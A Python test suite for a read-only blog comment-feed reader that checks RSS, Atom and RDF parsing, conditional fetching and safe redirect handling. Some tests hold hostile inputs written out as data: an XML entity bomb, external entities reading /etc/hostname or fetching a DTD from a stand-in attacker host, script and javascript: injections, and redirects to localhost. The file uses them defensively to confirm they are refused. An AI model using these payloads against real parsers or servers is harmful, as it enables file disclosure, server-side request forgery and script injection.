"""Comment feeds: read whatever honest sites write, refuse what is hostile, ask only for what changed."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from smtui.domain.clock import FixedClock
from smtui.domain.errors import LoginFailed, NetworkError, NotAllowed, NotAnApi, RateLimited, ServerTrouble
from smtui.domain.reply import Outgoing
from smtui.networks.feed import Feed
from smtui.networks.feed.parse import HostileError, NoFeedError, moment, parse
from smtui.ports import Account, Batch, Connector, Secret

NOW = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
URL = "https://blog.example/comments/feed/"
PASSWORD = "feed-secret"

# As WordPress 6.1 writes it.
RSS = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>Comments for Caf&#233; Ada</title><link>https://blog.example</link>
<item><title>Comment on Tea &amp; more by Bob</title><link>https://blog.example/tea/#comment-7</link>
<dc:creator><![CDATA[Bob]]></dc:creator><pubDate>Mon, 23 Nov 2026 08:00:00 +0000</pubDate>
<guid isPermaLink="false">https://blog.example/?p=1#comment-7</guid><description>Is it green?</description>
<content:encoded><![CDATA[<p>Is it <b>green</b>?</p><p>And hot&nbsp;&hellip;</p>]]></content:encoded></item>
<item><title>Comment on Cups by Ida</title><link>https://blog.example/cups/#comment-6</link>
<dc:creator>Ida</dc:creator><pubDate>Sun, 01 Nov 2026 08:00:00 +0000</pubDate>
<guid isPermaLink="false">https://blog.example/?p=2#comment-6</guid><description>Old</description></item>
</channel></rss>"""

# As isso 0.14 writes it.
ATOM = """<?xml version='1.0' encoding='utf-8'?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:thr="http://purl.org/syndication/thread/1.0">
<updated>2026-11-23T08:58:49.114016Z</updated><id>tag:blog.example,2018:/isso/thread/post/</id>
<title>Comments for blog.example/post/</title>
<entry><id>tag:blog.example,2018:/isso/1/2</id><title>Comment #2</title><updated>2026-11-23T08:58:49.114016Z</updated>
<author><name>Ada</name></author><link href="/post/#isso-2" />
<content type="html">&lt;p&gt;Yes &amp;lt;3&lt;/p&gt;</content>
<thr:in-reply-to ref="tag:blog.example,2018:/isso/1/1" href="https://blog.example/post/#isso-1" /></entry>
<entry><id>tag:blog.example,2018:/isso/1/1</id><title>Comment #1</title><updated>2026-11-23T08:50:00Z</updated>
<author><name /></author><link href="https://blog.example/post/#isso-1" />
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">No <em>&lt;way&gt;</em><br/>out</div></content></entry>
</feed>"""

RDF = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Old style</title></channel>
<item><title>One</title><link>https://blog.example/1</link><description>Words</description><dc:creator>Eva</dc:creator>
<dc:date>2026-11-23T07:00:00+01:00</dc:date></item></rdf:RDF>"""


class Site:
    """A site with a feed that knows conditional requests."""

    def __init__(self, body: str = RSS) -> None:
        self.body = body.encode()
        self.rules: list[Callable[[httpx.Request], httpx.Response | None]] = []
        self.requests: list[httpx.Request] = []

    def handle(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        for rule in self.rules:
            if (answer := rule(request)) is not None:
                return answer
        tag = f'"{hash(self.body)}"'
        if request.headers.get("if-none-match") == tag:
            return httpx.Response(304)
        headers = {"ETag": tag, "Last-Modified": "Mon, 23 Nov 2026 08:58:49 GMT", "Content-Type": "text/xml"}
        return httpx.Response(200, content=self.body, headers=headers)

    def connect(self, url: str = URL, user: str = "") -> Connector:
        async def no_wait(seconds: float) -> None:
            pass

        network = Feed(transport=httpx.MockTransport(self.handle), sleep=no_wait)
        account = Account(name="blog", network="feed", url=url, user=user)
        return network.connect(account, Secret(PASSWORD), clock=FixedClock(NOW))

    async def pull(self, cursor: Any = None, **fields: Any) -> list[Batch]:
        connector = self.connect(**fields)
        try:
            return [batch async for batch in connector.pull(json.loads(json.dumps(cursor or {})), [])]
        finally:
            await connector.close()


# Reading -------------------------------------------------------------------------------------------------------------


async def test_rss_of_a_blog() -> None:
    (batch,) = await Site().pull()
    (found,) = batch.incoming
    assert found.text == "Is it green?\n\nAnd hot\u00a0…"
    assert (found.author, found.post_title) == ("Bob", "Comment on Tea & more by Bob")
    assert (found.url, found.post_url) == ("https://blog.example/tea/#comment-7", "https://blog.example/tea/")
    assert (found.remote_id, found.created_at) == ("https://blog.example/?p=1#comment-7", NOW.replace(hour=8))


async def test_atom_of_one_page() -> None:
    (batch,) = await Site(ATOM).pull()
    first, second = batch.incoming
    assert [first.text, second.text] == ["No <way>\nout", "Yes <3"]
    assert second.parent_id == first.remote_id
    assert second.url == "https://blog.example/post/#isso-2"
    assert {first.post_title, second.post_title} == {"Comments for blog.example/post/"}
    assert (first.author, second.author) == ("", "Ada")


def test_rss_of_the_first_days() -> None:
    document = parse(RDF.encode(), URL)
    (entry,) = document.entries
    assert (document.title, entry.id, entry.author, entry.text) == (
        "Old style",
        "https://blog.example/1",
        "Eva",
        "Words",
    )
    assert entry.at == NOW.replace(hour=6)


def test_entries_without_an_id_are_known_by_their_words() -> None:
    bare = "<rss><channel><item><description>{}</description></item></channel></rss>"
    one, same, other = (parse(bare.format(words).encode(), URL).entries[0].id for words in ("a", "a", "b"))
    assert one == same != other


def test_other_encodings_and_names_of_html() -> None:
    item = "<rss><channel><item><title>{}</title></item></channel></rss>"
    windows = '<?xml version="1.0" encoding="windows-1252"?>' + item.format("Grüße €")
    assert parse(windows.encode("cp1252"), URL).entries[0].text == "Grüße €"
    assert parse(item.format("Grüße").encode("utf-16"), URL).entries[0].text == "Grüße"
    assert parse(item.format("caf&eacute;&nbsp;&amp; tea").encode(), URL).entries[0].title == "café & tea"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Mon, 23 Nov 2026 09:00:00 +0100", NOW.replace(hour=8)),
        ("Mon, 23 Nov 2026 08:00:00 GMT", NOW.replace(hour=8)),
        ("2026-11-23T08:00:00Z", NOW.replace(hour=8)),
        ("2026-11-23T08:00:00", NOW.replace(hour=8)),
        ("2026-11-23T08:00:00.123456+00:00", NOW.replace(hour=8, microsecond=123456)),
        ("yesterday", None),
        ("", None),
        ("0001-01-01T00:00:00+14:00", None),
    ],
)
def test_dates(text: str, expected: datetime | None) -> None:
    assert moment(text) == expected


async def test_hostile_words_are_harmless() -> None:
    body = RSS.replace("<b>green</b>", "<script>x</script>\x9b31m<b onclick=1>green</b>").replace(
        "tea/#", "java&#10;script/#"
    )
    body = body.replace("https://blog.example/java", "javascript:alert")
    (batch,) = await Site(body).pull()
    (found,) = batch.incoming
    assert found.text.startswith("Is it green?")
    assert found.url == ""


# Refusing ------------------------------------------------------------------------------------------------------------

BOMB = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>
<rss><channel><item><title>&lol2;</title></item></channel></rss>"""
FILE = """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<rss><channel><item><title>&x;</title></item></channel></rss>"""
PARAMETER = """<!DOCTYPE r [<!ENTITY % p SYSTEM "https://thief.example/x.dtd"> %p;]><rss><channel/></rss>"""


@pytest.mark.parametrize("body", [BOMB, FILE, PARAMETER])
async def test_entities_are_refused(body: str, say: Any) -> None:
    with pytest.raises(HostileError):
        parse(body.encode(), URL)
    site = Site(body)
    with pytest.raises(ServerTrouble) as caught:
        await site.pull()
    assert "entities" in say(caught.value)
    assert len(site.requests) == 1


def test_blank_lines_before_the_declaration_are_forgiven() -> None:
    assert len(parse(f"\ufeff\n \n{RSS}".encode(), URL).entries) == 2


def test_a_harmless_doctype_is_read() -> None:
    body = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "https://x.example/rss.dtd"><rss><channel/></rss>'
    assert parse(body.encode(), URL).entries == ()


def test_depth_is_limited() -> None:
    with pytest.raises(ValueError, match="deep"):
        parse(b"<rss>" + b"<a>" * 50_000 + b"</a>" * 50_000 + b"</rss>", URL)


@pytest.mark.parametrize("body", ["", "hello", "{}", "<!DOCTYPE html><html></html>", "<html><p></html>", "<svg/>"])
async def test_no_feed_there(body: str, say: Any) -> None:
    with pytest.raises(NotAnApi) as caught:
        await Site(body).connect().check()
    assert "feed" in say(caught.value)


@pytest.mark.parametrize("body", [RSS[:-40], RSS.replace("<item>", "<item", 1), "<rss>\x01</rss>"])
async def test_broken_xml_says_where(body: str, say: Any) -> None:
    with pytest.raises(ServerTrouble) as caught:
        await Site(body).pull()
    assert "line" in say(caught.value)


@given(st.binary(max_size=200))
def test_any_bytes_are_a_feed_or_refused(data: bytes) -> None:
    for body in (data, b"<rss><channel>" + data + b"</channel></rss>"):
        try:
            parse(body, URL)
        except (NoFeedError, ValueError):
            continue


@given(st.text(max_size=60))
def test_any_words_survive_as_clean_text(words: str) -> None:
    escaped = words.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "")
    body = f'<feed xmlns="http://www.w3.org/2005/Atom"><entry><content>{escaped}</content></entry></feed>'
    try:
        (entry,) = parse(body.encode("utf-8", "surrogatepass"), URL).entries
    except ValueError:
        return  # signs that XML forbids
    assert "\x1b" not in entry.text


# Asking again --------------------------------------------------------------------------------------------------------


async def test_asks_only_for_what_changed() -> None:
    site = Site()
    (first,) = await site.pull()
    assert await site.pull(first.cursor) == []
    again = site.requests[-1].headers
    assert again["if-none-match"] == first.cursor["etag"]  # type: ignore[index]
    assert again["if-modified-since"] == "Mon, 23 Nov 2026 08:58:49 GMT"
    assert "xml" in again["accept"]
    site.body = site.body.replace(b"<b>green</b>", b"<b>black</b>")
    (changed,) = await site.pull(first.cursor)
    assert changed.incoming[0].text.startswith("Is it black?")
    assert changed.incoming[0].remote_id == first.incoming[0].remote_id


async def test_a_feed_that_ran_over_warns() -> None:
    site = Site()
    (first,) = await site.pull()
    assert first.warnings == ()
    site.body = RSS.replace("comment-7", "comment-90").replace("comment-6", "comment-89").encode()
    (later,) = await site.pull(first.cursor)
    assert [warning.key for warning in later.warnings] == ["feed_gap"]
    (calm,) = await site.pull({**later.cursor, "etag": "", "modified": ""})  # type: ignore[dict-item]
    assert calm.warnings == ()


async def test_an_emptied_feed_is_no_gap() -> None:
    site = Site()
    (first,) = await site.pull()
    site.body = b"<rss><channel/></rss>"
    (empty,) = await site.pull(first.cursor)
    assert (empty.incoming, empty.warnings) == ((), ())
    assert empty.cursor is not None and empty.cursor["known"] == first.cursor["known"]  # type: ignore[index]


# On the wire ---------------------------------------------------------------------------------------------------------


async def test_check_says_what_it_is() -> None:
    info = await Site().connect("blog.example/comments/feed/").check()
    assert (info.site, info.base, info.can, info.missing) == (
        "Comments for Café Ada",
        URL,
        frozenset(),
        ("feed_read_only",),
    )


async def test_redirects_are_followed_without_the_password() -> None:
    site = Site()
    site.rules = [
        lambda request: (
            httpx.Response(301, headers={"Location": "https://cdn.example/feed"})
            if request.url.host == "blog.example"
            else None
        )
    ]
    connector = site.connect(user="ada")
    info = await connector.check()
    await connector.close()
    assert [request.url.host for request in site.requests] == ["blog.example", "cdn.example"]
    assert ["authorization" in request.headers for request in site.requests] == [True, False]
    # The next sync's password goes where the account says, not where somebody led us.
    assert info.base == URL


@pytest.mark.parametrize(
    "target", ["http://127.0.0.1:8080/", "http://localhost/", "http://[::1]/x", "http://cdn.example/", "::"]
)
async def test_redirects_that_are_not_followed(target: str) -> None:
    site = Site()
    site.rules = [lambda request: httpx.Response(302, headers={"Location": target})]
    with pytest.raises(NetworkError):
        await site.pull()
    assert {request.url.host for request in site.requests} == {"blog.example"}


async def test_redirects_in_a_circle_end(say: Any) -> None:
    site = Site()
    site.rules = [lambda request: httpx.Response(302, headers={"Location": URL})]
    with pytest.raises(NotAnApi) as caught:
        await site.pull()
    assert len(site.requests) < 10
    assert say(caught.value)


@pytest.mark.parametrize(
    ("status", "kind"), [(401, LoginFailed), (404, NotAnApi), (410, NotAnApi), (429, RateLimited), (500, ServerTrouble)]
)
async def test_refusals(status: int, kind: type[NetworkError], say: Any) -> None:
    site = Site()
    site.rules = [lambda request: httpx.Response(status, html="<title>Nein</title>")]
    with pytest.raises(kind) as caught:
        await site.pull()
    assert say(caught.value)
    assert PASSWORD not in repr(caught.value)


async def test_nothing_can_be_sent(say: Any) -> None:
    site = Site()
    connector = site.connect()
    assert connector.capabilities.can == frozenset()
    wanted = Outgoing(operation="op", text="Hi", comment_remote_id="1", post_id="")
    assert await connector.find_reply(wanted) is None
    with pytest.raises(NotAllowed) as caught:
        await connector.reply(wanted)
    assert "read" in say(caught.value)
    with pytest.raises(NotAllowed):
        await connector.moderate("1", "spam")
    assert site.requests == []
